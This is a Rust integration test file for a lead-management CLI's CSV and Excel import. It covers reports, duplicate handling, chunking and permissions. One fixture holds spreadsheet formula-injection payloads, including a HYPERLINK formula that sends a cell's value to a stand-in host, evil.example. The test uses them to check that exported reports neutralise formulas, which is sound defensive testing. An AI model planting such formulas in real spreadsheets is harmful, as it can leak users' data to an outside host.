//! `leadhub import leads|businesses FILE` (CSV or .xlsx), run as the real binary on small files.
#![allow(clippy::unwrap_used)]

use std::collections::HashMap;
use std::path::{Path, PathBuf};
use std::process::{Command, Output};

use diesel::prelude::*;

use leadhub_db::schema::{businesses, lead_activity, lead_notes, leads};
use leadhub_db::{Database, ReadConnection};

const BIN: &str = env!("CARGO_BIN_EXE_leadhub");

mod binary;

use binary::temp_dir;

fn leadhub(dir: &Path, args: &[&str]) -> Output {
    Command::new(BIN)
        .args(args)
        .env_clear()
        .env("LEADHUB_DATA_DIR", dir.join("data"))
        .env("LEADHUB_GEOCODER", "none")
        .env("RUST_LOG", "warn")
        .current_dir(dir)
        .output()
        .unwrap()
}

fn ok(output: &Output) -> (String, String) {
    let stdout = String::from_utf8(output.stdout.clone()).unwrap();
    let stderr = String::from_utf8(output.stderr.clone()).unwrap();
    assert!(output.status.success(), "{stdout}\n{stderr}");
    (stdout, stderr)
}

/// The `name: value` lines of the summary.
fn summary(stdout: &str) -> HashMap<String, String> {
    stdout
        .lines()
        .filter_map(|l| l.split_once(": "))
        .map(|(k, v)| (k.to_owned(), v.to_owned()))
        .collect()
}

fn figure(s: &HashMap<String, String>, name: &str) -> u64 {
    s.get(name)
        .unwrap_or_else(|| panic!("no {name} in {s:?}"))
        .parse()
        .unwrap()
}

/// Asserts the summary's figures; returns the summary.
fn assert_figures(stdout: &str, expected: &[(&str, u64)]) -> HashMap<String, String> {
    let s = summary(stdout);
    for (name, n) in expected {
        assert_eq!(figure(&s, name), *n, "{name}: {stdout}");
    }
    s
}

/// `read` run on the folder's database.
fn in_db<T: Send + 'static>(
    dir: &Path,
    read: impl FnOnce(&mut ReadConnection<'_>) -> diesel::QueryResult<T> + Send + 'static,
) -> T {
    let url = format!("sqlite://{}", dir.join("data/leadhub.db").display());
    let db = Database::connect(&url, 1).unwrap();
    let runtime = tokio::runtime::Builder::new_current_thread()
        .enable_all()
        .build()
        .unwrap();
    runtime.block_on(db.read(read)).unwrap()
}

fn count(dir: &Path, what: &'static str) -> i64 {
    in_db(dir, move |conn| match what {
        "leads" => conn.get_result::<_, i64>(leads::table.count()),
        _ => conn.get_result::<_, i64>(businesses::table.count()),
    })
}

fn admin(dir: &Path) {
    ok(&leadhub(
        dir,
        &["user", "add", "--email", "ops@example.com", "--admin"],
    ));
}

/// A folder with an admin to act as, and `csv` saved as `file`.
fn folder_with(tag: &str, file: &str, csv: &str) -> PathBuf {
    let dir = temp_dir(tag);
    admin(&dir);
    std::fs::write(dir.join(file), csv).unwrap();
    dir
}

const LEADS: &str = "\
address,city,state,zip_code,first_name,primary_phone,bedrooms,favourite_colour
1 Main St,Austin,TX,78701,Ann,512-555-0100,3,blue
2 Oak Ave,Austin,XX,78701,Bob,,2,red
\"3 Elm Rd, Unit 4\",Dallas,tx,75201,Cy,(214) 555-0100,,green
4 Pine Ln,Tulsa,OK,74103,Di,,many,
5 Cedar Ct,Tulsa,OK,74103,Ed,,,
";

#[test]
fn lead_import_keeps_rows_drops_bad_cells_and_reruns_create_no_duplicates() {
    let dir = folder_with("leads", "leads.csv", LEADS);
    let (stdout, stderr) = ok(&leadhub(&dir, &["import", "leads", "leads.csv"]));
    assert!(
        stderr.contains(
            "no --team-id: the imported rows belong to no team, so every user can see them"
        ),
        "{stderr}"
    );
    let figures = [
        ("rows", 5),
        ("created", 5),
        ("updated", 0),
        ("skipped", 0),
        ("rejected", 0),
        ("warnings", 2),
    ];
    let s = assert_figures(&stdout, &figures);
    assert_eq!(s["encoding"], "UTF-8");
    assert!(stdout.contains("ignored: favourite_colour\n"), "{stdout}");
    assert!(
        stdout.contains("column: zip_code -> zip_code\n"),
        "{stdout}"
    );
    assert!(stdout.contains("reason: invalid_number 1\n"), "{stdout}");
    // The report: each dropped cell with its row, column, value and reason.
    let report = PathBuf::from(&s["report"]);
    assert!(report.starts_with(dir.join("data/reports")), "{report:?}");
    let text = std::fs::read_to_string(&report).unwrap();
    let mut lines = text.lines();
    assert_eq!(
        lines.next().unwrap(),
        "row,column,value,code,message,address,city,state,zip_code,first_name,primary_phone,bedrooms,favourite_colour"
    );
    let bad_state = lines.next().unwrap();
    assert!(bad_state.starts_with("3,state,XX,invalid_state,"), "{text}");
    let bad_bedrooms = lines.next().unwrap();
    assert!(
        bad_bedrooms.starts_with("5,bedrooms,many,invalid_number,"),
        "{text}"
    );
    assert_eq!(lines.next(), None);
    assert_eq!(count(&dir, "leads"), 5);

    // The same file again: duplicate detection merges every row into its lead.
    let (stdout, _) = ok(&leadhub(&dir, &["import", "leads", "leads.csv"]));
    assert_figures(&stdout, &[("created", 0), ("skipped", 5), ("rejected", 0)]);
    assert_eq!(count(&dir, "leads"), 5, "no duplicate leads");

    // A team the importer may not use stops the import with a one-line error.
    let out = leadhub(&dir, &["import", "leads", "leads.csv", "--team-id", "42"]);
    assert!(!out.status.success());
    let stderr = String::from_utf8(out.stderr).unwrap();
    assert!(stderr.contains("Not a member of this team"), "{stderr}");
    assert!(!stderr.contains("no --team-id"), "{stderr}");
    let _ = std::fs::remove_dir_all(&dir);
}

/// `LEADS` as an Excel workbook: each cell that is a number typed as one.
fn leads_workbook() -> Vec<u8> {
    let mut book = rust_xlsxwriter::Workbook::new();
    let sheet = book.add_worksheet();
    let mut rows = csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(LEADS.as_bytes());
    for (r, record) in rows.records().enumerate() {
        for (c, cell) in record.unwrap().iter().enumerate() {
            let (r, c) = (r as u32, c as u16);
            match cell.parse::<f64>() {
                Ok(number) => sheet.write_number(r, c, number),
                Err(_) => sheet.write_string(r, c, cell),
            }
            .unwrap();
        }
    }
    book.save_to_buffer().unwrap()
}

#[test]
fn a_workbook_imports_as_its_csv_does() {
    // The same rows in two fresh folders: the same summary (its encoding and report path aside) and
    // the same report, row numbers included.
    let csv_dir = folder_with("as-csv", "leads.csv", LEADS);
    let book_dir = temp_dir("as-xlsx");
    admin(&book_dir);
    std::fs::write(book_dir.join("leads.xlsx"), leads_workbook()).unwrap();
    let (csv_out, _) = ok(&leadhub(&csv_dir, &["import", "leads", "leads.csv"]));
    let (book_out, _) = ok(&leadhub(&book_dir, &["import", "leads", "leads.xlsx"]));
    let (csv_s, book_s) = (summary(&csv_out), summary(&book_out));
    assert_eq!(
        book_s["encoding"],
        "Excel workbook (.xlsx), sheet \"Sheet1\""
    );
    let aside = |out: &str| -> Vec<String> {
        out.lines()
            .filter(|l| !l.starts_with("encoding: ") && !l.starts_with("report: "))
            .map(str::to_owned)
            .collect()
    };
    assert_eq!(aside(&book_out), aside(&csv_out));
    let report = |s: &HashMap<String, String>| std::fs::read_to_string(&s["report"]).unwrap();
    assert_eq!(report(&book_s), report(&csv_s));
    assert_eq!(count(&book_dir, "leads"), 5);
    // Each value was read as the CSV's: the CSV then finds every lead as it is.
    std::fs::write(book_dir.join("leads.csv"), LEADS).unwrap();
    let (stdout, _) = ok(&leadhub(&book_dir, &["import", "leads", "leads.csv"]));
    assert_figures(&stdout, &[("created", 0), ("skipped", 5)]);
    let _ = std::fs::remove_dir_all(&csv_dir);
    let _ = std::fs::remove_dir_all(&book_dir);
}

/// Rows whose cells a spreadsheet would run as formulas, in a file with such a header; both are
/// rejected as shifted (a cell beyond the header), so the report holds their cells.
const FORMULAS: &str = "\
address,city,state,zip_code,first_name,longitude,notes,=HYPERLINK(\"http://evil.example/\")
\"=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"open\"\")\",Austin,XX,78701,+Ann,-97.74,@SUM(1),x,+15125550100
\"-2+3\",Austin,XX,78701,\tTab,-97.7,\"\rCR\",-5,=1+1
";

#[test]
fn the_report_defuses_formulas_but_not_numbers_or_phones() {
    let dir = folder_with("formulas", "leads.csv", FORMULAS);
    let (stdout, _) = ok(&leadhub(&dir, &["import", "leads", "leads.csv"]));
    let s = assert_figures(&stdout, &[("rejected", 2)]);
    let mut report = csv::ReaderBuilder::new()
        .has_headers(false)
        .flexible(true)
        .from_path(&s["report"])
        .unwrap();
    let rows: Vec<Vec<String>> = report
        .records()
        .map(|r| r.unwrap().iter().map(str::to_owned).collect())
        .collect();
    assert_eq!(
        rows[0][5..],
        [
            "address",
            "city",
            "state",
            "zip_code",
            "first_name",
            "longitude",
            "notes",
            "'=HYPERLINK(\"http://evil.example/\")"
        ]
    );
    assert_eq!(rows[1][..4], ["2", "", "", "shifted_row"]);
    assert_eq!(
        rows[1][5..],
        [
            "'=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")",
            "Austin",
            "XX",
            "78701",
            "'+Ann",
            "-97.74",
            "'@SUM(1)",
            "x",
            "+15125550100"
        ]
    );
    // A plain number or phone number is no formula: it stays as it is.
    assert_eq!(
        rows[2][5..],
        ["'-2+3", "Austin", "XX", "78701", "'\tTab", "-97.7", "'\rCR", "-5", "'=1+1"]
    );
    assert_eq!(rows.len(), 3);

    // The report, fixed (the extra cells removed), imports again: its own columns are ignored
    // and the guard's apostrophes stripped.
    let fixed: String = std::fs::read_to_string(&s["report"])
        .unwrap()
        .lines()
        .map(|l| match l.rsplit_once(',') {
            Some((head, _)) if !l.starts_with("row,") => format!("{head}\n"),
            _ => format!("{l}\n"),
        })
        .collect();
    std::fs::write(dir.join("fixed.csv"), fixed).unwrap();
    let (stdout, _) = ok(&leadhub(&dir, &["import", "leads", "fixed.csv"]));
    assert_figures(&stdout, &[("rows", 2), ("created", 2), ("rejected", 0)]);
    assert!(stdout.contains("ignored: row\n"), "{stdout}");
    let _ = std::fs::remove_dir_all(&dir);
}

#[test]
fn lead_import_in_small_chunks_matches_one_chunk() {
    let dir = folder_with("chunks", "leads.csv", LEADS);
    let chunked = ["import", "leads", "leads.csv", "--chunk-size", "2"];
    let (stdout, _) = ok(&leadhub(&dir, &chunked));
    assert_figures(&stdout, &[("created", 5), ("rejected", 0), ("warnings", 2)]);
    let _ = std::fs::remove_dir_all(&dir);
}

/// SIGTERM (a deploy, Ctrl-C's SIGINT alike) during a long import ends it after the chunk being
/// stored, with its summary and a line saying where it stopped; a rerun goes on.
#[cfg(unix)]
#[test]
fn a_stopped_import_says_where_and_a_rerun_goes_on() {
    let rows: String = (1..=4000)
        .map(|n| format!("{n} Stop St,Austin,TX,78701\n"))
        .collect();
    let dir = folder_with(
        "stop",
        "long.csv",
        &format!("address,city,state,zip_code\n{rows}"),
    );
    let child = Command::new(BIN)
        .args(["import", "leads", "long.csv", "--chunk-size", "100"])
        .env_clear()
        .env("LEADHUB_DATA_DIR", dir.join("data"))
        .env("LEADHUB_GEOCODER", "none")
        .env("RUST_LOG", "warn")
        .current_dir(&dir)
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    let started = std::time::Instant::now();
    while count(&dir, "leads") == 0 {
        assert!(started.elapsed().as_secs() < 60, "no lead stored");
        std::thread::sleep(std::time::Duration::from_millis(20));
    }
    let killed = Command::new("kill")
        .args(["-TERM", &child.id().to_string()])
        .status()
        .unwrap();
    assert!(killed.success());
    let output = child.wait_with_output().unwrap();
    let stdout = String::from_utf8(output.stdout).unwrap();
    let stderr = String::from_utf8(output.stderr).unwrap();
    assert_eq!(output.status.code(), Some(1), "{stdout}\n{stderr}");
    let s = summary(&stdout);
    let (read, created) = (figure(&s, "rows"), figure(&s, "created"));
    assert!(read < 4000, "{stdout}");
    assert_eq!(created, read, "{stdout}");
    assert_eq!(count(&dir, "leads"), created as i64);
    assert!(
        stderr.contains(&format!(
            "stopped when asked, after {read} rows of the file"
        )),
        "{stderr}"
    );
    let again = ["import", "leads", "long.csv", "--chunk-size", "1000"];
    let (stdout, _) = ok(&leadhub(&dir, &again));
    assert_figures(&stdout, &[("created", 4000 - read), ("skipped", read)]);
    assert_eq!(count(&dir, "leads"), 4000);
    let _ = std::fs::remove_dir_all(&dir);
}

const BUSINESSES: &str = "\
name,phone,website,city,state,industry,rating,review_count,notes
Joe's Plumbing LLC,(512) 555-0100,https://joesplumbing.com,Austin,TX,,4.5,10,x
JOES PLUMBING,,,Austin,tx,,,,same name and place
,,,,,,,,no name
Cool Air,512-555-0199,,Austin,TX,Heating & Air,7,3,bad rating
Sunny Solar Inc,,,Austin,ZZ,,,,bad state
Bright Spark,,brightspark.com,Dallas,TX,Electrician,,,
";

#[test]
fn business_import_with_options() {
    let dir = folder_with("businesses", "biz.csv", BUSINESSES);
    let (stdout, stderr) = ok(&leadhub(
        &dir,
        &[
            "import",
            "businesses",
            "biz.csv",
            "--relationship-type",
            "lead_buyer",
        ],
    ));
    let figures = [
        ("rows", 6),
        ("created", 4),
        ("skipped", 1),
        ("rejected", 1),
        ("warnings", 2),
    ];
    let s = assert_figures(&stdout, &figures);
    assert!(stdout.contains("ignored: notes\n"), "{stdout}");
    assert!(stderr.is_empty() || !stderr.contains("error"), "{stderr}");
    let text = std::fs::read_to_string(&s["report"]).unwrap();
    let rows: Vec<&str> = text.lines().skip(1).collect();
    assert_eq!(rows.len(), 3, "{text}");
    assert!(rows[0].starts_with("4,,,no_usable_field,"), "{text}");
    assert!(rows[1].starts_with("5,rating,7,invalid_number,"), "{text}");
    assert!(rows[2].starts_with("6,state,ZZ,invalid_state,"), "{text}");

    // Again: duplicates now, but for Sunny Solar, whose state was dropped: a business without a
    // state matches none by name and place (the duplicate rule needs both).
    let (stdout, _) = ok(&leadhub(&dir, &["import", "businesses", "biz.csv"]));
    assert_figures(&stdout, &[("created", 1), ("skipped", 4)]);
    assert_eq!(count(&dir, "businesses"), 5);

    // --no-skip-duplicates imports them anyway.
    let (stdout, _) = ok(&leadhub(
        &dir,
        &[
            "import",
            "businesses",
            "biz.csv",
            "--no-skip-duplicates",
            "--no-auto-categorize",
        ],
    ));
    assert_figures(&stdout, &[("created", 5)]);
    assert_eq!(count(&dir, "businesses"), 10);

    let bad = leadhub(
        &dir,
        &[
            "import",
            "businesses",
            "biz.csv",
            "--relationship-type",
            "friend",
        ],
    );
    assert!(!bad.status.success());
    let _ = std::fs::remove_dir_all(&dir);
}

#[test]
fn columns_named_on_the_command_line_feed_their_fields() {
    let roll = "Situs,Owner1,Status\n\"9 Elm St, Austin, TX 78701\",ROE RICHARD J,Called\n";
    let dir = folder_with("columns", "roll.csv", roll);
    // `leadhub import leads roll.csv` with a --column for each of `columns`.
    let import = |columns: &[&str]| {
        let mut args = vec!["import", "leads", "roll.csv"];
        for column in columns {
            args.extend(["--column", column]);
        }
        leadhub(&dir, &args)
    };
    let (stdout, _) = ok(&import(&["situs=address", "Owner1=full_name", "Status="]));
    assert_figures(&stdout, &[("rows", 1), ("created", 1)]);
    assert!(stdout.contains("column: Situs -> address\n"), "{stdout}");
    assert!(stdout.contains("column: Owner1 -> full_name\n"), "{stdout}");
    assert!(stdout.contains("ignored: Status\n"), "{stdout}");
    let out = import(&["Parcel=parcel_number"]);
    assert!(!out.status.success());
    let stderr = String::from_utf8(out.stderr).unwrap();
    assert!(
        stderr.contains("--column: no column \"Parcel\" in the file's header"),
        "{stderr}"
    );
    let out = import(&["Situs"]);
    assert!(!out.status.success());
    assert_eq!(count(&dir, "leads"), 1);
    // A column that is no field of a lead, kept on it as a line of its note.
    let roll = "Situs,Yr Built,Pool\n\"9 Elm St, Austin, TX 78701\",1987,Y\n";
    std::fs::write(dir.join("roll.csv"), roll).unwrap();
    let (stdout, _) = ok(&import(&["situs=address", "yr built=note_line"]));
    assert_figures(&stdout, &[("rows", 1), ("notes", 1)]);
    assert!(
        stdout.contains("column: Yr Built -> note_line\n"),
        "{stdout}"
    );
    assert!(stdout.contains("ignored: Pool\n"), "{stdout}");
    let notes: Vec<String> = in_db(&dir, |conn| {
        conn.load(lead_notes::table.select(lead_notes::body))
    });
    assert_eq!(notes, ["Yr Built: 1987"]);
    let _ = std::fs::remove_dir_all(&dir);
}

#[test]
fn tag_and_source_mark_every_lead_of_the_file_and_refuse_bad_ones() {
    let dir = folder_with("tag", "leads.csv", LEADS);
    let tagged = [
        "import",
        "leads",
        "leads.csv",
        "--tag",
        "Mailer 12",
        "--tag",
        "hot",
        "--source",
        "Storm List",
    ];
    let (stdout, _) = ok(&leadhub(&dir, &tagged));
    assert_figures(&stdout, &[("created", 5)]);
    let tags: Vec<String> = in_db(&dir, |conn| conn.load(leads::table.select(leads::tags)));
    assert_eq!(tags.len(), 5);
    assert!(
        tags.iter().all(|t| t == r#"["hot","mailer 12"]"#),
        "{tags:?}"
    );
    let sources: Vec<Option<String>> =
        in_db(&dir, |conn| conn.load(leads::table.select(leads::source)));
    assert_eq!(sources, vec![Some("storm_list".to_owned()); 5]);
    let long = "x".repeat(41);
    let out = leadhub(&dir, &["import", "leads", "leads.csv", "--tag", &long]);
    assert!(!out.status.success());
    let stderr = String::from_utf8(out.stderr).unwrap();
    assert!(stderr.contains("at most 40 characters"), "{stderr}");
    let out = leadhub(&dir, &["import", "leads", "leads.csv", "--source", "?!"]);
    assert!(!out.status.success());
    let stderr = String::from_utf8(out.stderr).unwrap();
    assert!(stderr.contains("no letter or digit"), "{stderr}");
    let _ = std::fs::remove_dir_all(&dir);
}

/// One lead's version and how many timeline rows it has, by lead id.
fn versions_and_timelines(dir: &Path) -> Vec<(i64, i64, i64)> {
    in_db(dir, |conn| {
        let versions: Vec<(i64, i64)> = conn.load(
            leads::table
                .select((leads::id, leads::version))
                .order(leads::id),
        )?;
        let mut out = Vec::new();
        for (id, version) in versions {
            let rows: i64 = conn.get_result(
                lead_activity::table
                    .filter(lead_activity::lead_id.eq(id))
                    .count(),
            )?;
            out.push((id, version, rows));
        }
        Ok(out)
    })
}

/// A sheet with a working state, tags and each of two properties in two spellings, imported
/// again as it is: nothing changes (each lead keeps its version, its ETag, and gets no
/// timeline row) and the summary says so: every row skipped, no warning.
#[test]
fn a_file_imported_again_changes_nothing_and_says_so() {
    const SHEET: &str = "\
address,city,state,zip_code,lead_status,follow_up_on,tags
123 N Main St Apt 4,Austin,TX,78702,contacted,12/20/2026,storm;hail
123 North Main Street #4,Austin,TX,78702,,,
123 N Main St Apt 4,Austin,TX,78702,,,
77 Fifth Ave,Austin,TX,78702,,,vip
77 5th Avenue,Austin,TX,78702,,,
";
    let dir = folder_with("again", "leads.csv", SHEET);
    let (stdout, _) = ok(&leadhub(&dir, &["import", "leads", "leads.csv"]));
    // The second spelling of 77 Fifth Ave stays; 123 N Main St's is written back by row 4.
    let figures = [("created", 2), ("updated", 1), ("skipped", 2), ("work", 1)];
    assert_figures(&stdout, &figures);
    let before = versions_and_timelines(&dir);
    let (stdout, _) = ok(&leadhub(&dir, &["import", "leads", "leads.csv"]));
    let figures = [("updated", 0), ("skipped", 5), ("warnings", 0)];
    assert_figures(&stdout, &figures);
    assert_eq!(versions_and_timelines(&dir), before);
    let _ = std::fs::remove_dir_all(&dir);
}

#[test]
fn the_team_comes_first_in_the_import_help() {
    let dir = temp_dir("help");
    let (stdout, _) = ok(&leadhub(&dir, &["import", "leads", "--help"]));
    let options = stdout.split("Options:").nth(1).unwrap_or_default();
    let first = options.lines().find(|l| l.trim_start().starts_with('-'));
    assert!(first.is_some_and(|l| l.contains("--team-id")), "{stdout}");
    assert!(stdout.contains("every user can see"), "{stdout}");
    let _ = std::fs::remove_dir_all(&dir);
}

#[test]
fn import_needs_someone_to_act_as() {
    let dir = temp_dir("nobody");
    std::fs::write(dir.join("biz.csv"), BUSINESSES).unwrap();
    let out = leadhub(&dir, &["import", "businesses", "biz.csv"]);
    assert!(!out.status.success());
    let stderr = String::from_utf8(out.stderr).unwrap();
    assert!(stderr.contains("--email"), "{stderr}");
    ok(&leadhub(
        &dir,
        &["user", "add", "--email", "plain@example.com"],
    ));
    let (stdout, _) = ok(&leadhub(
        &dir,
        &[
            "import",
            "businesses",
            "biz.csv",
            "--email",
            "plain@example.com",
        ],
    ));
    assert_figures(&stdout, &[("created", 4)]);
    let missing = leadhub(
        &dir,
        &[
            "import",
            "leads",
            "nope.csv",
            "--email",
            "plain@example.com",
        ],
    );
    assert!(!missing.status.success());
    assert!(String::from_utf8(missing.stderr)
        .unwrap()
        .contains("nope.csv"));
    let _ = std::fs::remove_dir_all(&dir);
}

/// A binary file renamed `.csv` is refused for what it is, as the upload page refuses it: the
/// reader both share says so, not a header naming nothing.
#[test]
fn a_binary_file_is_refused_as_no_csv_file() {
    let dir = temp_dir("binary");
    admin(&dir);
    let png = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\x10\0\0\0\x10\x08\x06\0\0\0";
    std::fs::write(dir.join("png.csv"), png).unwrap();
    let out = leadhub(&dir, &["import", "leads", "png.csv"]);
    assert!(!out.status.success());
    let stderr = String::from_utf8(out.stderr).unwrap();
    assert!(
        stderr.contains("neither a CSV file nor an Excel workbook (.xlsx): it holds binary data"),
        "{stderr}"
    );
    assert!(!stderr.contains("no column named"), "{stderr}");
    let _ = std::fs::remove_dir_all(&dir);
}
